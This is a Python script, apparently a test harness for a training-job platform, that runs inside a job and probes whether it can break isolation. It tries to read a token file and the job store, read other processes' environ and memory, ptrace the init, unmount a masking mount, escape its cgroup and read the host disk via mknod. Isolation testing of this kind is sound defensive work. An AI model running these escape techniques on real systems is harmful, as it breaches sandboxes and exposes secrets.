"""The hostile script of the isolation probes: it tries everything a job must not be able to do.

Each probe prints as ``allowed: …`` (it worked: a hole) or ``refused: …`` (the error that
stopped it); the results go to ``--out`` as JSON. Standard library only (it runs as a job's
script), and never raises: a probe that cannot even be tried is ``refused``.
"""

from __future__ import annotations

import argparse
import ctypes
import json
import os
import socket
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

LIBC = ctypes.CDLL("libc.so.6", use_errno=True)
MNT_DETACH = 2
PTRACE_ATTACH = 16
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000


def _errno(what: str) -> OSError:
    err = ctypes.get_errno()
    return OSError(err, f"{what}: {os.strerror(err)}")


def read(path: str) -> str:
    with open(path, "rb") as handle:
        return f"read {len(handle.read(4096))} bytes of {path}"


def read_memory(pid: int) -> str:
    with open(f"/proc/{pid}/maps", encoding="ascii") as maps:
        start = next(int(line.split("-")[0], 16) for line in maps if line.split()[1][0] == "r")
    with open(f"/proc/{pid}/mem", "rb") as mem:
        mem.seek(start)
        return f"read {len(mem.read(64))} bytes of process {pid}'s memory"


def list_home(home: str) -> str:
    names = os.listdir(home)
    secret = {"token", "trainops.db", "objects", "server.json"} & set(names)
    if not secret:
        raise OSError(f"only {sorted(names)} in the home")
    return f"listed {sorted(secret)}"


def other_processes(marker: str) -> str:
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
            except OSError:
                continue
            if marker.encode() in cmdline:
                return f"saw process {pid} of the other job"
    raise OSError("no process of the other job in /proc")


def umount(home: str, token: str) -> str:
    if LIBC.umount2(home.encode(), MNT_DETACH) != 0:
        raise _errno("umount2")
    return read(token)


def umount_in_own_namespace(home: str, token: str) -> str:
    code = (
        "import ctypes, os, sys\n"
        "libc = ctypes.CDLL('libc.so.6', use_errno=True)\n"
        f"if libc.unshare({CLONE_NEWUSER | CLONE_NEWNS}) != 0: sys.exit('unshare: ' + "
        "os.strerror(ctypes.get_errno()))\n"
        f"libc.umount2({home.encode()!r}, {MNT_DETACH})\n"
        f"print(open({token!r}).read()[:4])\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise OSError(done.stderr.strip().splitlines()[-1] if done.stderr.strip() else "failed")
    return "read the token after unmounting in a namespace of its own"


def ptrace(pid: int) -> str:
    if LIBC.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise _errno(f"ptrace {pid}")
    return f"attached to {pid}"


def connect(path: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.connect(path)
    return f"connected to {path}"


def server_variables() -> str:
    names = [k for k in ("TRAINOPS_HOME", "TRAINOPS_TOKEN", "TRAINOPS_SERVER") if k in os.environ]
    if not names:
        raise OSError("none in the environment")
    return f"environment names {names}"


def mknod_disk(rdev: int) -> str:
    node = os.path.join(os.environ.get("SM_MODEL_DIR", "."), "disk")
    os.mknod(node, stat.S_IFBLK | 0o600, rdev)
    try:
        return read(node)
    finally:
        os.unlink(node)


def cgroup_escape() -> str:
    with open("/sys/fs/cgroup/cgroup.procs", "w") as handle:
        handle.write(str(os.getpid()))
    return "moved itself to the root cgroup"


def probes(args: argparse.Namespace) -> dict[str, Callable[[], str]]:
    token = os.path.join(args.home, "token")
    me = os.path.join(args.home, "jobs", args.own_job, "attempt-1", ".agents", "algo-1")
    found: dict[str, Callable[[], str]] = {
        "read the token file": lambda: read(token),
        "list the home": lambda: list_home(args.home),
        "read the store": lambda: read(os.path.join(args.home, "trainops.db")),
        "list another job's tree": lambda: str(os.listdir(args.victim_tree)),
        "read another job's config": lambda: read(
            os.path.join(args.victim_tree, "input", "config", "hyperparameters.json")
        ),
        "read its own agent's host log": lambda: read(os.path.join(me, "host.log")),
        "see another job's processes": lambda: other_processes(args.victim_marker[::-1]),
        "see the server's process": lambda: read(f"/proc/{args.server_pid}/cmdline"),
        "read the fork server's environ": lambda: read(f"/proc/{args.fork_server_pid}/environ"),
        "read the fork server's memory": lambda: read_memory(args.fork_server_pid),
        "ptrace the fork server": lambda: ptrace(args.fork_server_pid),
        "read the init's environ": lambda: read("/proc/1/environ"),
        "ptrace the init": lambda: ptrace(1),
        "umount the home's mask": lambda: umount(args.home, token),
        "umount it in a user namespace": lambda: umount_in_own_namespace(args.home, token),
        "connect to another job's rsh socket": lambda: connect(args.victim_socket),
        "find the home in its environment": server_variables,
        "move out of its cgroup": cgroup_escape,
    }
    if args.block_device:
        found["read the machine's disk"] = lambda: read(args.block_device)
        found["mknod the machine's disk"] = lambda: mknod_disk(args.block_rdev)
    return found


def main() -> None:
    parser = argparse.ArgumentParser()
    for name in ("home", "own_job", "victim_tree", "victim_marker", "victim_socket", "out"):
        parser.add_argument(f"--{name}", required=True)
    for name in ("server_pid", "fork_server_pid"):
        parser.add_argument(f"--{name}", type=int, required=True)
    parser.add_argument("--block_device", default="")
    parser.add_argument("--block_rdev", type=int, default=0)
    args = parser.parse_args()
    results = {}
    for name, probe in probes(args).items():
        try:
            results[name] = "allowed: " + probe()
        except Exception as exc:
            results[name] = f"refused: {type(exc).__name__}: {exc}"
        print(f"{name}: {results[name]}", flush=True)
    Path(args.out).write_text(json.dumps(results), encoding="utf-8")


if __name__ == "__main__":
    main()
